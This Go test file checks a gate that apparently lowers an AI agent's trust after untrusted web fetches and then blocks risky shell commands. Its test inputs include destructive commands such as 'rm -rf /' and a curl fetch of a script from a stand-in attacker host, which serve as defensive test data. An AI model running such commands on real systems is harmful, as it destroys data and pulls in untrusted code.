package gate

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/ed-dc/ClawTaint/internal/audit"
	"github.com/ed-dc/ClawTaint/internal/config"
	"github.com/ed-dc/ClawTaint/internal/taint"
)

func testGate(t *testing.T) *Gate {
	t.Helper()
	cfg := config.DefaultConfig()
	g, err := NewFromConfig(cfg, "sha256:test")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { g.Close() })
	return g
}

func TestHandleActionTrustedRecovers(t *testing.T) {
	g := testGate(t)

	out := g.HandleAction(Action{
		SessionID: "s1",
		Source:    "web_fetch",
		Payload:   map[string]any{"url": "https://docs.github.com/en/actions"},
	})

	if out.Trust != "trusted" {
		t.Fatalf("trust = %s, want trusted", out.Trust)
	}
	if out.Level != 100 {
		t.Fatalf("level = %d, want 100 (recovery clamped at max)", out.Level)
	}
	if out.Tier != taint.TierPermissive {
		t.Fatalf("tier = %s, want permissive", out.Tier)
	}
	if out.CommandEvaluated {
		t.Fatal("no command in payload, nothing should be evaluated")
	}
	if out.Decision() != "observe" {
		t.Fatalf("decision = %s, want observe", out.Decision())
	}
}

func TestHandleActionUntrustedErodes(t *testing.T) {
	g := testGate(t)

	out := g.HandleAction(Action{
		SessionID: "s1",
		Source:    "web_fetch",
		Payload:   map[string]any{"url": "https://evil.example.com/x"},
	})

	if out.Trust != "untrusted" {
		t.Fatalf("trust = %s, want untrusted", out.Trust)
	}
	if out.Level != 90 {
		t.Fatalf("level = %d, want 90", out.Level)
	}
	if out.TaintEvent == nil || out.TaintEvent.Kind != taint.KindPenalty {
		t.Fatalf("taint event = %+v, want penalty", out.TaintEvent)
	}
}

func TestHandleActionInvalidResourcePenalized(t *testing.T) {
	g := testGate(t)

	out := g.HandleAction(Action{
		SessionID: "s1",
		Source:    "web_fetch",
		Payload:   map[string]any{"url": "://broken"},
	})

	if out.Trust != "invalid" {
		t.Fatalf("trust = %s, want invalid", out.Trust)
	}
	if out.Level != 90 {
		t.Fatalf("level = %d, want 90", out.Level)
	}
}

func TestHandleActionAbsentResourceNoChange(t *testing.T) {
	g := testGate(t)

	out := g.HandleAction(Action{
		SessionID: "s1",
		Source:    "shell",
		Payload:   map[string]any{"command": "ls -la"},
	})

	if out.Trust != "none" {
		t.Fatalf("trust = %s, want none", out.Trust)
	}
	if out.Level != 100 {
		t.Fatalf("level = %d, want unchanged 100", out.Level)
	}
	if !out.CommandEvaluated || !out.Allowed {
		t.Fatalf("shell command should be evaluated and allowed: %+v", out)
	}
}

func TestHandleActionErosionGatesLaterCommands(t *testing.T) {
	g := testGate(t)

	// Erode trust to the cautious tier: 100 - 3*10 = 70.
	for i := 0; i < 3; i++ {
		g.HandleAction(Action{
			SessionID: "s1",
			Source:    "web_fetch",
			Payload:   map[string]any{"url": "https://evil.example.com/x"},
		})
	}

	// Dangerous command now blocked.
	out := g.HandleAction(Action{
		SessionID: "s1",
		Source:    "shell",
		Payload:   map[string]any{"command": "rm -rf ./build"},
	})
	if out.Tier != taint.TierCautious {
		t.Fatalf("tier = %s, want cautious", out.Tier)
	}
	if out.Allowed {
		t.Fatal("dangerous command should be blocked at cautious tier")
	}
	if out.Decision() != "block" {
		t.Fatalf("decision = %s, want block", out.Decision())
	}

	// Harmless command still allowed at the same tier.
	out = g.HandleAction(Action{
		SessionID: "s1",
		Source:    "shell",
		Payload:   map[string]any{"command": "make build"},
	})
	if !out.Allowed {
		t.Fatalf("harmless command blocked at cautious tier: %s", out.Reason)
	}
}

func TestHandleActionCommandWithEmbeddedURL(t *testing.T) {
	g := testGate(t)

	// The command both carries a penalizing URL and is itself governed:
	// one action erodes trust and evaluates at the post-update tier.
	out := g.HandleAction(Action{
		SessionID: "s1",
		Source:    "shell",
		Payload:   map[string]any{"command": "curl https://evil.example.com/x.sh"},
	})

	if out.Trust != "untrusted" {
		t.Fatalf("trust = %s, want untrusted", out.Trust)
	}
	if out.Level != 90 {
		t.Fatalf("level = %d, want 90", out.Level)
	}
	if !out.CommandEvaluated {
		t.Fatal("governed command should be evaluated")
	}
	if !out.Allowed {
		t.Fatalf("still permissive at 90, should allow: %s", out.Reason)
	}
}

func TestHandleActionSessionsIsolated(t *testing.T) {
	g := testGate(t)

	for i := 0; i < 5; i++ {
		g.HandleAction(Action{
			SessionID: "dirty",
			Source:    "web_fetch",
			Payload:   map[string]any{"url": "https://evil.example.com/x"},
		})
	}

	out := g.HandleAction(Action{
		SessionID: "clean",
		Source:    "shell",
		Payload:   map[string]any{"command": "sudo apt update"},
	})
	if !out.Allowed {
		t.Fatalf("fresh session should start permissive: %s", out.Reason)
	}

	st, ok := g.SessionStatus("dirty")
	if !ok {
		t.Fatal("dirty session missing")
	}
	if st.Level != 50 {
		t.Fatalf("dirty session level = %d, want 50", st.Level)
	}
}

func TestHandleActionGeneratesSessionID(t *testing.T) {
	g := testGate(t)
	out := g.HandleAction(Action{
		Source:  "shell",
		Payload: map[string]any{"command": "ls"},
	})
	if out.SessionID == "" {
		t.Fatal("empty session ID should be replaced with a generated one")
	}
}

func TestHandleActionUngovernedSourceNotEvaluated(t *testing.T) {
	g := testGate(t)
	out := g.HandleAction(Action{
		SessionID: "s1",
		Source:    "editor",
		Payload:   map[string]any{"command": "rm -rf /"},
	})
	if out.CommandEvaluated {
		t.Fatal("ungoverned source must not have its command evaluated")
	}
	if out.Decision() != "observe" {
		t.Fatalf("decision = %s, want observe", out.Decision())
	}
}

func TestBlockedErrFromOutcome(t *testing.T) {
	g := testGate(t)
	out := g.HandleAction(Action{
		SessionID: "s1",
		Source:    "shell",
		Payload:   map[string]any{"command": "rm -rf / --force"},
	})

	err := out.Err()
	if err == nil {
		t.Fatal("always-blocked command should yield a typed error")
	}
	var blocked *BlockedError
	if be, ok := err.(*BlockedError); ok {
		blocked = be
	} else {
		t.Fatalf("err type = %T, want *BlockedError", err)
	}
	if blocked.Command != "rm -rf / --force" {
		t.Fatalf("blocked command = %q", blocked.Command)
	}
}

func TestResetSession(t *testing.T) {
	g := testGate(t)
	for i := 0; i < 4; i++ {
		g.HandleAction(Action{
			SessionID: "s1",
			Source:    "web_fetch",
			Payload:   map[string]any{"url": "https://evil.example.com/x"},
		})
	}

	g.ResetSession("s1")
	st, ok := g.SessionStatus("s1")
	if !ok {
		t.Fatal("session missing after reset")
	}
	if st.Level != 100 || st.Events != 0 {
		t.Fatalf("status after reset = %+v", st)
	}
}

func TestHistoryOrderedOldestFirst(t *testing.T) {
	g := testGate(t)
	g.HandleAction(Action{SessionID: "s1", Source: "web_fetch",
		Payload: map[string]any{"url": "https://evil.example.com/a"}})
	g.HandleAction(Action{SessionID: "s1", Source: "web_fetch",
		Payload: map[string]any{"url": "https://github.com/cli/cli"}})

	hist := g.History("s1")
	if len(hist) != 2 {
		t.Fatalf("history length = %d, want 2", len(hist))
	}
	if hist[0].Kind != taint.KindPenalty || hist[1].Kind != taint.KindRecovery {
		t.Fatalf("history order wrong: %+v", hist)
	}
	if g.History("missing") != nil {
		t.Fatal("missing session should have nil history")
	}
}

func TestCheckCommandDryRun(t *testing.T) {
	g := testGate(t)

	res := g.CheckCommand("rm -rf ./tmp", taint.TierCautious)
	if res.Allowed {
		t.Fatal("dangerous command should be blocked at cautious tier")
	}

	// Dry-run must not create session state.
	if _, ok := g.SessionStatus("s1"); ok {
		t.Fatal("CheckCommand must not touch sessions")
	}
}

func TestGateWritesAuditChain(t *testing.T) {
	dir := t.TempDir()
	cfg := config.DefaultConfig()
	cfg.AuditLogPath = filepath.Join(dir, "audit.jsonl")

	g, err := NewFromConfig(cfg, "sha256:test")
	if err != nil {
		t.Fatal(err)
	}

	g.HandleAction(Action{SessionID: "s1", Source: "web_fetch",
		Payload: map[string]any{"url": "https://evil.example.com/x"}})
	g.HandleAction(Action{SessionID: "s1", Source: "shell",
		Payload: map[string]any{"command": "ls"}})
	if err := g.Close(); err != nil {
		t.Fatal(err)
	}

	res := audit.Verify(cfg.AuditLogPath)
	if !res.Valid {
		t.Fatalf("audit chain invalid: %s", res.Error)
	}
	if res.Lines != 2 {
		t.Fatalf("audit lines = %d, want 2", res.Lines)
	}
}

func TestReloadSwapsRules(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "config.yaml")
	if err := os.WriteFile(path, []byte("penalty_amount: 10\n"), 0o644); err != nil {
		t.Fatal(err)
	}

	g, err := New(path)
	if err != nil {
		t.Fatal(err)
	}
	defer g.Close()

	out := g.HandleAction(Action{SessionID: "s1", Source: "web_fetch",
		Payload: map[string]any{"url": "https://internal.corp.example/x"}})
	if out.Trust != "untrusted" {
		t.Fatalf("trust = %s, want untrusted before reload", out.Trust)
	}

	body := "penalty_amount: 10\ntrusted_domains:\n  - internal.corp.example\n"
	if err := os.WriteFile(path, []byte(body), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := g.Reload(); err != nil {
		t.Fatal(err)
	}

	// New patterns apply immediately, including to existing sessions.
	out = g.HandleAction(Action{SessionID: "s1", Source: "web_fetch",
		Payload: map[string]any{"url": "https://internal.corp.example/x"}})
	if out.Trust != "trusted" {
		t.Fatalf("trust = %s, want trusted after reload", out.Trust)
	}
}
